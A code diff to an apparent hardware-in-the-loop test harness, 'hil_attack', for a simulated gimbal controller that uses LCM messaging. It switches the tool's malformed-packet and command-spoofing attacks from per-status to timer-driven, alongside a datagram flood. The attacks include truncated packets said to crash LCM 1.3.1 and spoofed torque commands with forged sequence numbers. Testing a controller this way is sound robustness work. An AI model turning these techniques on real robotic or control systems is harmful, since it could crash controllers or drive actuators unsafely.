@@ -7,16 +7,18 @@
 //                      reassembly buffer is taken and evicted), orphan
 //                      fragments, fragments of unsubscribed channels, and
 //                      fragments declaring 4 GB;
-//   --malformed-every K  on each status whose seq is a multiple of K (seq >= 1),
-//                      one datagram of each malformed kind: an LC03 shorter
+//   --malformed-every-ms T  every T ms of wall time once a status with seq >= 1
+//                      was seen, one datagram of each malformed kind: an LC03 shorter
 //                      than its header (what crashes LCM 1.3.1), LC02/LC03
 //                      with unterminated or 64-byte channel names, fragment_no
 //                      >= count, count 0, data beyond the declared size, a bad magic;
-//   --spoof-every K    on each such status, two well-formed commands on the
+//   --spoof-every-ms T every T ms likewise, two well-formed commands on the
 //                      command channel from this process (another source
 //                      than the controller): seq INT64_MAX and the seq the
-//                      controller will use next, both answering that status
-//                      with a large valid torque.
+//                      controller will use next, both answering the newest
+//                      status seen, with a large valid torque.
+// Time-driven, not status-driven: under its own flood on a loaded machine the
+// attacker sees few statuses, and the attack must go on regardless.
 // Runs --seconds of wall time, or until no status came for --idle-exit
 // seconds after the first; prints what it sent. Exit 0, 2 bad arguments, 4 no socket.
 #include <arpa/inet.h>
@@ -24,6 +26,7 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <algorithm>
 #include <chrono>
 #include <cstdint>
 #include <cstdio>
@@ -111,7 +114,7 @@ struct Sender {
 int main(int argc, char** argv) {
   std::string url, prefix;
   double seconds = 5.0, flood_pps = 0.0, idle_exit = 0.0;
-  long long malformed_every = 0, spoof_every = 0;
+  double malformed_ms = 0.0, spoof_ms = 0.0;
   for (int i = 1; i < argc; ++i) {
     const std::string a = argv[i];
     const bool has = i + 1 < argc;
@@ -120,8 +123,8 @@ int main(int argc, char** argv) {
     else if (a == "--seconds" && has) seconds = std::atof(argv[++i]);
     else if (a == "--flood-pps" && has) flood_pps = std::atof(argv[++i]);
     else if (a == "--idle-exit" && has) idle_exit = std::atof(argv[++i]);
-    else if (a == "--malformed-every" && has) malformed_every = std::atoll(argv[++i]);
-    else if (a == "--spoof-every" && has) spoof_every = std::atoll(argv[++i]);
+    else if (a == "--malformed-every-ms" && has) malformed_ms = std::atof(argv[++i]);
+    else if (a == "--spoof-every-ms" && has) spoof_ms = std::atof(argv[++i]);
     else {
       std::fprintf(stderr, "hil_attack: bad argument '%s'\n", a.c_str());
       return 2;
@@ -162,22 +165,23 @@ int main(int argc, char** argv) {
   bad.push_back(Bytes{'L', 'C', '0', '9', 1, 2, 3, 4, 5, 6, 7, 8});              // bad magic
 
   long long statuses = 0, spoofs = 0, malformed = 0;
-  std::int64_t last_seq = -1;
+  gimbalsim::gimbal_status_t st{};  // the newest status seen
+  st.seq = -1;
   using Clock = std::chrono::steady_clock;
   Clock::time_point last_status = Clock::now();
   auto onStatus = [&](const io::Message& m, std::int64_t) {
-    gimbalsim::gimbal_status_t st{};
-    if (st.decode(m.data, 0, static_cast<int>(m.size)) < 0) return;
+    gimbalsim::gimbal_status_t s{};
+    if (s.decode(m.data, 0, static_cast<int>(m.size)) < 0) return;
     last_status = Clock::now();
-    if (st.seq <= last_seq) return;
-    last_seq = st.seq;  // once per status (lockstep re-publishes status 0)
+    if (s.seq <= st.seq) return;
+    st = s;
     ++statuses;
-    if (st.seq < 1) return;  // the controller has bound the plant only after answering status 0
-    if (malformed_every > 0 && st.seq % malformed_every == 0) {
-      for (const Bytes& b : bad) tx.send(b, static_cast<int>(malformed++ % 8));
-    }
-    if (spoof_every > 0 && st.seq % spoof_every == 0) {
-      for (std::int64_t seq : {std::numeric_limits<std::int64_t>::max(), st.last_command_seq + 1}) {
+  };
+  auto sendMalformed = [&] {
+    for (const Bytes& b : bad) tx.send(b, static_cast<int>(malformed++ % 8));
+  };
+  auto sendSpoofs = [&] {
+    for (std::int64_t seq : {std::numeric_limits<std::int64_t>::max(), st.last_command_seq + 1}) {
         gimbalsim::gimbal_command_t c{};
         c.utime = st.utime;
         c.seq = seq;
@@ -189,26 +193,40 @@ int main(int argc, char** argv) {
         const int n = c.encode(buf, 0, sizeof buf);
         tx.send(shortMsg(ch.command, buf, static_cast<std::size_t>(n)), 7);
         ++spoofs;
-      }
     }
   };
 
   const Clock::time_point t0 = Clock::now();
+  Clock::time_point next_bad = t0, next_spoof = t0;
+  auto every = [](double ms) { return std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double, std::milli>(ms)); };
   const auto end = t0 + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(seconds));
-  long long flooded = 0;
+  long long flooded = 0, scheduled = 0;
   std::size_t next = 0;
   while (Clock::now() < end) {
     if (idle_exit > 0.0 && statuses > 0 && Clock::now() - last_status > std::chrono::duration<double>(idle_exit)) break;
     rx.drain(onStatus, 1024);
-    // Catch up with the flood schedule, 1 ms at a time.
+    // The controller has bound the plant only after answering status 0.
+    const bool bound = st.seq >= 1;
+    if (bound && malformed_ms > 0.0 && Clock::now() >= next_bad) {
+      sendMalformed();
+      next_bad = Clock::now() + every(malformed_ms);
+    }
+    if (bound && spoof_ms > 0.0 && Clock::now() >= next_spoof) {
+      sendSpoofs();
+      next_spoof = Clock::now() + every(spoof_ms);
+    }
+    // Keep to the flood schedule in bursts of at most 500, so the timers
+    // above keep running; debt beyond 0.1 s is given up (the machine cannot
+    // send that fast: the printed rate says what was sent).
     const double elapsed = std::chrono::duration<double>(Clock::now() - t0).count();
     const auto due = static_cast<long long>(elapsed * flood_pps);
-    for (int burst = 0; flooded < due && burst < 100000; ++burst, ++flooded) {
+    scheduled = std::max(scheduled, due - static_cast<long long>(0.1 * flood_pps));
+    for (int burst = 0; scheduled < due && burst < 500; ++burst, ++scheduled, ++flooded) {
       const Bytes& b = flood[next % flood.size()];
       tx.send(b, static_cast<int>(next % 8));
       ++next;
     }
-    rx.wait(1);
+    if (scheduled >= due) rx.wait(1);  // ahead of the schedule: wait for statuses
   }
   const double wall = std::chrono::duration<double>(Clock::now() - t0).count();
   std::printf("hil_attack: %.2f s: flood %lld datagrams (%.0f per s), %lld malformed, %lld spoofed commands, "
